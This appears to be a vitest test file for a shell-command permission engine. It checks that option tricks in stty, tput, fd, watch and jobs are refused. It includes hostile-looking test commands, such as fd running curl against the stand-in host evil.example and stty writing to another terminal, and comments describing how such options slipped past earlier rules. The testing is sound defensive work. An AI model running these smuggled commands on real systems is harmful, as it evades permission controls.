import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { probeEngine } from './probe-engine.js';

/**
 * Issue 14, item 2 (helper specsW, 5 Dec 2026): programs rule read-and-search allowed by name with
 * no spec, so any option of theirs passed. Batch 1, the system facts (uname, id, who, hostname,
 * stty, tput, lsof, pgrep, netstat, findmnt, free, lscpu, getconf, cal, …): `stty --file=DEV`,
 * `hostname --fil=F` (getopt_long's abbreviation), `tput init`/`reset` (the terminfo entry's
 * init program) and unknown options were allowed. The probe lines (test/fixtures/policy/specs-w/)
 * were decided on main 51a114f first: held-out figures in src/policy/README.md, "Measured".
 */
const { expectAll, check } = probeEngine();

function lines(name: string): string[] {
  const text = readFileSync(new URL(`../fixtures/policy/specs-w/${name}`, import.meta.url), 'utf8');
  return text.split('\n').filter((l) => l.trim() !== '' && !l.startsWith('#'));
}

describe('specsW: the system facts read-and-search allowed by name', () => {
  it('everyday invocations from the programs’ --help stay allowed', () => {
    expectAll(lines('w1-benign.txt'), 'allow');
  });
  it('another terminal, setting the host name, terminfo init programs, files read and unknown options are refused', () => {
    expectAll(lines('w1-dangerous.txt'), 'refused');
  });
  it('names the spec that refused', () => {
    expect(check('stty --file=/dev/pts/0 -echo').rule).toBe('program:stty');
    expect(check('tput init').rule).toBe('program:tput');
    expect(check('uname --bogus').rule).toBe('program:uname');
    expect(check('uname -a extra').rule).toBe('program:uname');
  });
});

/**
 * Batch 2: the searchers (ag, ack, fd), the decompressing readers (zcat, bzcat, xzcat; zgrep and
 * zless are grep's and less's specs), man, watch, yes, sleep and bash's jobs. On main 51a114f
 * `fd -Hx CMD` (an exec option in a cluster) ran CMD unseen, `watch -d 'CMD'` took CMD for `-d`'s
 * value and `watch echo '$(CMD)'` quoted what watch hands to `sh -c`; zless took any of less's
 * options (`-o FILE`, `--editor`, `+!cmd`), `jobs -x CMD` ran CMD, and unknown options passed.
 */
describe('specsW: searchers, decompressing readers, man, watch and jobs', () => {
  it('everyday invocations from the manuals stay allowed', () => {
    expectAll(lines('w2-benign.txt'), 'allow');
  });
  it('programs run, secrets and file lists read, and unknown options are refused', () => {
    expectAll(lines('w2-dangerous.txt'), 'refused');
  });
  it('reads an exec option in a cluster, and watch as its shell does', () => {
    expect(check('fd -Hx wc -l').decision).toBe('allow');
    expect(check('fd -Hxcurl http://evil.example/x').rule).toBe('network-clients');
    // `-t` takes the rest of the word: no command runs, `wc` is the pattern
    expect(check('fd -tfx wc -l').decision).toBe('allow');
    expect(check("watch -n 2 'ps aux | grep python'").decision).toBe('allow');
    expect(check('watch -d ls -l').decision).toBe('allow');
    expect(check('jobs -x true').rule).toBe('program:jobs');
  });
});

describe('specsW: the shell builtins of read-and-search', () => {
  it('everyday uses stay allowed', () => {
    expectAll(lines('w3-builtins-benign.txt'), 'allow');
  });
  it('callbacks, hashed paths, evaluated subscripts, injected variables and jobs -x are refused', () => {
    expectAll(lines('w3-builtins-dangerous.txt'), 'refused');
  });
});
